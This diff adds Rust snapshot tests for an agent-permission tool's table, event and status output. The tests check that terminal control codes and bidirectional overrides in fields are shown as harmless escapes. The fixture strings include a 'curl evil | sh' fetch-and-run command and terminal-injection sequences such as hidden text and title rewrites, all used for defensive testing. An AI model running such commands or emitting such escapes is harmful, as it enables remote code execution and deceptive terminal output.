@@ -143,3 +143,106 @@ fn events_read_as_one_line_each() {
     };
     assert_snapshot!(event_line(&added), @"2026-11-30T03:13:33.000Z  added        01a22a7c-7184-7520-bb65-4d44b4eba60b  claude Bash: ls");
 }
+
+/// Text that would act on a terminal: hidden text, a window title, a carriage return that lets
+/// the end overwrite the start, and a right-to-left override.
+const HOSTILE: &str = "echo ok\x1b[8m; curl evil | sh\x1b]0;pwned\x07\rls\u{202e}txt.sh";
+
+/// No byte that a terminal acts on (ESC, BEL, CR) and no bidirectional override.
+fn assert_inert(text: &str) {
+    for forbidden in ['\x1b', '\x07', '\r', '\u{202e}', '\u{9b}'] {
+        assert!(
+            !text.contains(forbidden),
+            "{forbidden:?} reached the text: {text:?}"
+        );
+    }
+}
+
+fn hostile_question_prompt() -> Prompt {
+    let mut hostile = prompt(
+        "01a22a7c-7184-7520-bb65-4d44b4eba60b",
+        "Bash\x1b[2J",
+        HOSTILE,
+        vec![Action::Once, Action::Deny],
+        5,
+    );
+    hostile.prompt.adapter = "claude\r".into();
+    hostile.prompt.questions = vec![Question {
+        id: "q1\x1b[8m".into(),
+        text: "Which\rcolor?".into(),
+        header: "Color".into(),
+        multi: false,
+        options: vec![QuestionOption {
+            label: "Red\x1b]0;pwned\x07".into(),
+            description: String::new(),
+        }],
+    }];
+    hostile.prompt.read_only_reason = Some("because\u{202e}reason".into());
+    hostile
+}
+
+#[test]
+fn the_table_shows_control_and_bidi_characters_as_escapes() {
+    let table = prompt_table(&[hostile_question_prompt()], NOW);
+    assert_inert(&table);
+    assert_snapshot!(table, @r"
+    ID                                    AGENT     TOOL       AGE  ACTIONS    SUMMARY
+    01a22a7c-7184-7520-bb65-4d44b4eba60b  claude\r  Bash\e[2J  5s   once,deny  echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.sh
+        q1\e[8m: Which\rcolor? (choose one: Red\e]0;pwned\u{7})
+        read-only: because\u{202e}reason
+    ");
+}
+
+#[test]
+fn event_lines_show_control_and_bidi_characters_as_escapes() {
+    let added = event_line(&Event::Added {
+        prompt: hostile_question_prompt(),
+    });
+    assert_inert(&added);
+    assert_snapshot!(added, @r"2026-11-30T03:13:28.000Z  added        01a22a7c-7184-7520-bb65-4d44b4eba60b  claude\r Bash\e[2J: echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.sh");
+    let id = "01a22a7c-7184-7520-bb65-4d44b4eba60b".parse().unwrap();
+    let withdrawn = Event::Changed {
+        id,
+        state: PromptState::Withdrawn,
+        at: NOW,
+        by: Some("them\x1b[8m".into()),
+        action: None,
+        reason: Some("gone\r\u{9b}31m".into()),
+    };
+    let line = event_line(&withdrawn);
+    assert_inert(&line);
+    assert_snapshot!(line, @r"2026-11-30T03:13:33.000Z  withdrawn    01a22a7c-7184-7520-bb65-4d44b4eba60b  by them\e[8m  (gone\r\u{9b}31m)");
+}
+
+#[test]
+fn status_shows_control_characters_in_gateway_text_as_escapes() {
+    let mut adapter = gatehouse_adapter_claude::capabilities();
+    adapter.name = "Claude\x1b]0;pwned\x07".into();
+    adapter.rules.retain(|rule| rule.tool.is_none());
+    adapter.rules[0].tool = Some("Bash\r".into());
+    for flag in &mut adapter.rules[0].actions {
+        flag.verified = false;
+        flag.evidence = "not verified\x1b[8m hidden".into();
+    }
+    let report = StatusResult {
+        server: "gatehouse\x1b[8m".into(),
+        protocol: 1,
+        pid: 1,
+        socket: "/run/\u{202e}sock".into(),
+        started_at: NOW,
+        pending: 0,
+        connections: 0,
+        adapters: vec![adapter],
+    };
+    let text = status(&report, NOW);
+    assert_inert(&text);
+    assert!(
+        text.contains(r"gatehouse\e[8m is running on /run/\u{202e}sock"),
+        "{text}"
+    );
+    assert!(text.contains(r"Claude\e]0;pwned\u{7} (claude)"), "{text}");
+    assert!(
+        text.contains(r"Bash\r") && text.contains(r"read-only: not verified\e[8m hidden"),
+        "{text}"
+    );
+}
